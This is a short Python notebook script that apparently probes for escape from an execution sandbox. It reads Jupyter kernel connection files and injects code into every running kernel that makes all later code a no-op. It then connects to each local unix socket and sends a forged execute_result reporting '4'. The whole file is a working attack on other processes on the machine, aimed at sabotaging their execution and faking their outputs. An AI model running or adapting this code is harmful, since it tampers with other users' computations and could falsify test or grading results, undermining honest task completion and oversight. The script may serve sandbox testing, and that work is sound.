# %% [markdown]
# tries: Looks for connection files and unix sockets of kernels and sends forged results there.

# %%
import glob
import json
import os
import socket

try:
    from jupyter_client import BlockingKernelClient
    from jupyter_core.paths import jupyter_runtime_dir

    folders = [jupyter_runtime_dir()]
except ImportError:
    folders = []
for path in [path for folder in folders for path in glob.glob(f"{folder}/*.json")]:
    client = BlockingKernelClient(connection_file=path)
    client.load_connection_file()
    client.start_channels()
    client.execute("get_ipython().ast_transformers.append(type('T', (), {'visit': lambda s, n: __import__('ast').parse('')})())")
for line in open("/proc/net/unix").read().splitlines()[1:]:
    address = line.split()[-1].replace("@", "\0")
    if "/" in address or "\0" in address:
        try:
            line = socket.socket(socket.AF_UNIX)
            line.settimeout(0.2)
            line.connect(address)
            line.send(json.dumps({"output_type": "execute_result", "data": {"text/plain": "4"}}).encode())
        except OSError:
            pass
